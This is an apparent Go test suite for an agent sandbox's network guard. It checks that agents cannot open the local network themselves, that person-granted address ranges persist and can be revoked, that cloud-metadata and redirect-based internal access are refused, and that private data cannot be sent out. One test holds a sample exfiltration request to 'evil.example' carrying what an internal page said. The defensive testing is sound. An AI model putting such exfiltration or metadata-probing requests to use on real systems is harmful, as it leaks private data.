package kernel_test

import (
	"cmp"
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"oxios/kernel"
	"oxios/kernel/kerneltest"
	"oxios/kernel/security"
	"oxios/kernel/sys"
)

func TestTheOwnNetworkIsClosedToAgentsUntilThePersonGrantsARange(t *testing.T) {
	t.Parallel()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "the page") }))
	t.Cleanup(server.Close)
	k := open(t, kerneltest.With(func(o *kernel.Options) {
		o.Net = &security.NetGuard{
			Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
				return []netip.Addr{netip.MustParseAddr(map[string]string{"nas.local": "192.168.7.2", "credentials.example.com": "169.254.169.254"}[name])}, nil
			},
			Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, network, server.Listener.Addr().String())
			},
		}
	}))
	person := k.Person().Security
	if _, err := k.Agent("autonomous").Security.GrantAddress(t.Context(), "192.168.7.0/24"); err == nil {
		t.Error("an agent opened the network")
	}
	for _, wrong := range []string{"0.0.0.0/0", "169.254.169.254", "8.8.8.8", "nas.local"} {
		if _, err := person.GrantAddress(t.Context(), wrong); err == nil || !strings.Contains(err.Error(), "Nothing was changed") {
			t.Errorf("%s: got %v", wrong, err)
		}
	}
	if p, err := person.Policy(t.Context()); err != nil || p.Isolation < sys.IsolationFull {
		t.Skipf("level 3 does not hold here: %s, %v", p.Problem, err)
	}
	command := func(host string) string {
		t.Helper()
		h := k.Agent("autonomous")
		write(t, filepath.Join(k.Folder, "page.sh"), ask(host))
		r, err, _ := answered(t, k, h, true, shell(h, kernel.ShellArgs{Command: "bash page.sh", Network: true}))
		if err != nil {
			t.Fatal(err)
		}
		return r.Output
	}
	open := func(want bool) {
		t.Helper()
		if got := strings.HasSuffix(command("nas.local"), "the page"); got != want {
			t.Errorf("nas.local: reached %v, want %v", got, want)
		}
		if got := command("credentials.example.com"); !strings.Contains(got, "403") {
			t.Errorf("credentials: %s", got)
		}
	}
	open(false)
	p, err := person.GrantAddress(t.Context(), "192.168.7.9/24")
	if err != nil || !slices.Equal(p.GrantedAddresses, []string{"192.168.7.0/24"}) {
		t.Fatalf("got %v, %v", p.GrantedAddresses, err)
	}
	open(true)
	k.Restart()
	person = k.Person().Security
	open(true)
	if raw, err := os.ReadFile(filepath.Join(k.Home, "config.toml")); err != nil || !strings.Contains(string(raw), "192.168.7.0/24") {
		t.Errorf("got %s, %v", raw, err)
	}
	if p, err = person.RevokeAddress(t.Context(), "192.168.7.0/24"); err != nil || len(p.GrantedAddresses) != 0 {
		t.Fatalf("got %v, %v", p.GrantedAddresses, err)
	}
	open(false)
	if _, err = person.RevokeAddress(t.Context(), "192.168.7.0/24"); sys.CodeOf(err) != sys.CodeNotFound {
		t.Errorf("got %v", err)
	}
}

func TestAPageOfTheOwnNetworkIsReadOnlyWhenAPersonOpensIt(t *testing.T) {
	t.Parallel()
	w := &wide{}
	k := open(t, internet(t, w), kerneltest.With(func(o *kernel.Options) {
		net := *o.Net
		net.Resolve = func(_ context.Context, name string) ([]netip.Addr, error) {
			at := map[string]string{"nas.local": "192.168.7.2", "cloud.local": "169.254.169.254", "split.example": "10.1.2.3"}[name]
			return []netip.Addr{netip.MustParseAddr(cmp.Or(at, "93.184.215.14"))}, nil
		}
		o.Net = &net
	}))
	person := k.Person().Security
	// What a run reads there is private, so that more of it asks: each has its own.
	fetch := func(address string) (kernel.WebPage, error) {
		return k.Agent("guarded").Browser.Fetch(t.Context(), kernel.WebFetch{URL: address})
	}
	asked := func(address string, yes bool) (kernel.WebPage, error, kernel.Approval) {
		t.Helper()
		h := k.Agent("guarded")
		return answered(t, k, h, yes, func(ctx context.Context) (kernel.WebPage, error) {
			return h.Browser.Fetch(ctx, kernel.WebFetch{URL: address})
		})
	}
	for address, at := range map[string]string{"http://192.168.7.2/a": "192.168.7.2", "http://nas.local/a": "192.168.7.2", "http://split.example/a": "10.1.2.3"} {
		_, err, ap := asked(address, false)
		wantCode(t, address, err, sys.CodeDenied)
		if !slices.Equal(ap.Request.Own, []string{at}) || !strings.Contains(ap.Request.Title, "own network") || !strings.Contains(ap.Request.TitleKO, "내부 네트워크") || ap.Request.Simple {
			t.Errorf("%s: got the card %+v", address, ap.Request)
		}
		if w.got(address) {
			t.Errorf("%s was asked for, though it was denied", address)
		}
		page, err, _ := asked(address, true)
		if err != nil || !strings.Contains(page.Markdown, "A page") {
			t.Errorf("%s: got %+v, %v", address, page, err)
		}
	}
	if _, _, ap := asked("http://127.0.0.1/", false); !strings.Contains(ap.Request.Title, "this computer") {
		t.Errorf("got the title %q", ap.Request.Title)
	}
	// Nobody is asked about what nobody can open, nor about where a page leads.
	for _, address := range []string{"http://169.254.169.254/", "http://cloud.local/", "http://one.example/r?" + url.QueryEscape("http://192.168.7.2/b"), "http://192.168.7.2:22/"} {
		_, err := fetch(address)
		wantCode(t, address, err, sys.CodeRefused)
	}
	if w.got("192.168.7.2/b") {
		t.Error("a page led into the own network")
	}
	// What is open for good asks no more, and what is closed again does.
	if _, err := person.GrantAddress(t.Context(), "192.168.7.2"); err != nil {
		t.Fatal(err)
	}
	for _, address := range []string{"http://192.168.7.2/c", "http://nas.local/c"} {
		if _, err := fetch(address); err != nil {
			t.Errorf("%s: %v", address, err)
		}
	}
	if _, err := person.RevokeAddress(t.Context(), "192.168.7.2"); err != nil {
		t.Fatal(err)
	}
	_, err, _ := asked("http://192.168.7.2/d", false)
	wantCode(t, "closed again", err, sys.CodeDenied)
}

func TestWhatAPageOfTheOwnNetworkSaidIsPrivate(t *testing.T) {
	t.Parallel()
	k := open(t, internet(t, &wide{}))
	if _, err := k.Person().Security.GrantAddress(t.Context(), "192.168.7.0/24"); err != nil {
		t.Fatal(err)
	}
	r := k.Agent("guarded")
	if _, err := r.Browser.Fetch(t.Context(), kernel.WebFetch{URL: "http://one.example/"}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Browser.Fetch(t.Context(), kernel.WebFetch{URL: "http://192.168.7.2/"}); err != nil {
		t.Fatal(err)
	}
	_, err, ap := answered(t, k, r, false, func(ctx context.Context) (kernel.WebPage, error) {
		return r.Browser.Fetch(ctx, kernel.WebFetch{URL: "http://evil.example/?q=what-the-page-said"})
	})
	wantCode(t, "a composed address", err, sys.CodeDenied)
	if !ap.Request.Labels.Sensitive() {
		t.Errorf("got the labels %+v", ap.Request.Labels)
	}
}

func TestAYesForTheRunOpensAMachineOfTheOwnNetworkForItAlone(t *testing.T) {
	t.Parallel()
	k := open(t, internet(t, &wide{}))
	r := k.Agent("guarded")
	done := make(chan error, 1)
	go func() {
		_, err := r.Browser.Fetch(t.Context(), kernel.WebFetch{URL: "http://192.168.7.2/a"})
		done <- err
	}()
	ap := k.Approval(r.Principal().ID)
	if _, err := k.Person().Security.Approve(t.Context(), ap.ID, kernel.ApproveInput{Hash: ap.Request.Hash, Scope: security.ScopeRun}); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if _, err := r.Browser.Fetch(t.Context(), kernel.WebFetch{URL: "http://192.168.7.2/b"}); err != nil {
		t.Errorf("another page of the machine: %v", err)
	}
	for who, address := range map[*kernel.Handle]string{r: "http://192.168.7.3/", k.Agent("guarded"): "http://192.168.7.2/b"} {
		_, err, _ := answered(t, k, who, false, func(ctx context.Context) (kernel.WebPage, error) {
			return who.Browser.Fetch(ctx, kernel.WebFetch{URL: address})
		})
		wantCode(t, address, err, sys.CodeDenied)
	}
}
